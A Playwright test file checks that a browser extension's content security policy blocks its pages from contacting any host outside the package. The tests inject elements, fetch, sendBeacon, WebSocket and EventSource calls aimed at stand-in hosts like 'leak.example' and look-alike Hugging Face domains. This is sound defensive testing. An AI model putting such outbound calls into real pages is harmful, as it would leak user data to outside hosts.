/** The content security policy of the package, tried from the inside: nothing of an extension page reaches elsewhere. */
import type { Page } from '@playwright/test';
import { expect, test } from '../harness/test.ts';

/** Ways out of a document by its elements: tag, attributes, and where in them the address goes. */
const elements = [
  { tag: 'img', address: 'src', attributes: {} },
  { tag: 'iframe', address: 'src', attributes: {} },
  { tag: 'video', address: 'src', attributes: {} },
  { tag: 'link', address: 'href', attributes: { rel: 'stylesheet' } },
  { tag: 'link', address: 'href', attributes: { rel: 'prefetch' } },
] as const;

/** Tries everything in `view`; says what the policy was seen to refuse. */
async function tryAll(
  view: Page,
  url: string,
  webSocketUrl: string,
): Promise<() => Promise<string[]>> {
  const refusals = await view.evaluateHandle(
    async ({ elements: toAdd, url: target, webSocketUrl: socketTarget }) => {
      const refused = new Set<string>();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refused.add(effectiveDirective),
      );
      for (const { tag, address, attributes } of toAdd) {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        element.setAttribute(address, target);
        document.body.append(element);
      }
      const background = document.createElement('div');
      background.style.backgroundImage = `url(${target})`;
      document.body.append(background);
      await fetch(target).catch(() => undefined);
      navigator.sendBeacon(target, 'x');
      try {
        const socket = new WebSocket(socketTarget);
        await new Promise((resolve) => {
          socket.addEventListener('error', resolve);
          socket.addEventListener('open', resolve);
        });
      } catch {
        // Refused at once.
      }
      const events = new EventSource(target);
      await new Promise((resolve) => {
        events.addEventListener('error', resolve);
      });
      events.close();
      return refused;
    },
    { elements, url, webSocketUrl },
  );
  // Some are told of a moment later.
  return () => refusals.evaluate((refused) => [...refused].toSorted());
}

/** What the policy refuses whatever the address: everything but what a script asks for. */
const neverLoaded = ['frame-src', 'img-src', 'media-src', 'style-src-elem'];

/** Near the hosts of the hub, and not them. */
const elsewhere = [
  'https://leak.example/leak',
  'http://huggingface.co/leak',
  'https://www.huggingface.co/leak',
  'https://huggingface.co.leak.example/leak',
  'https://hf.co/leak',
];

for (const file of ['popup.html', 'options.html', 'offscreen.html'])
  test(`${file} reaches nothing but the package`, async ({ extension, internet, page, site }) => {
    await page.goto(extension.url(file));
    for (const address of elsewhere) {
      const webSocketUrl = address.replace(/^http/u, 'ws');
      const refused = await tryAll(page, address, webSocketUrl);
      await expect.poll(refused).toEqual(['connect-src', 'default-src', ...neverLoaded]);
    }
    // What counts is what arrived.
    expect(internet.requests).toEqual([]);

    // A hub or a model server on this machine may be asked by a script, or ahead of one (a prefetch is
    // fine wherever any directive allows the host); no element shows what it sends.
    const refused = await tryAll(page, site.url('/leak'), 'ws://leak.example/');
    await expect.poll(refused).toEqual(['connect-src', ...neverLoaded]);
    const kinds = site.requests.map(({ headers }) => headers['sec-fetch-dest']);
    expect(new Set(kinds)).toEqual(new Set(['empty']));
  });

test('no string becomes code or markup', async ({ extension, page }) => {
  await page.goto(extension.url('popup.html'));
  const outcome = await page.evaluate(() => {
    const attempt = (act: () => unknown): string => {
      try {
        act();
        return 'allowed';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const element = document.createElement('div');
    return [
      attempt(() => (element.innerHTML = '<b>x</b>')),
      attempt(() => element.insertAdjacentHTML('beforeend', '<b>x</b>')),
      attempt(() => document.write('x')),
      attempt(() => new Worker('data:text/javascript,0')),
      attempt(() => (document.createElement('object').data = 'https://leak.example/x')),
      attempt(() => (document.createElement('script').src = 'https://leak.example/x.js')),
      attempt(() => trustedTypes.createPolicy('other', {})),
    ];
  });
  expect(outcome).toEqual(Array.from({ length: 7 }, () => 'TypeError'));
});

declare const trustedTypes: { createPolicy(name: string, rules: object): unknown };
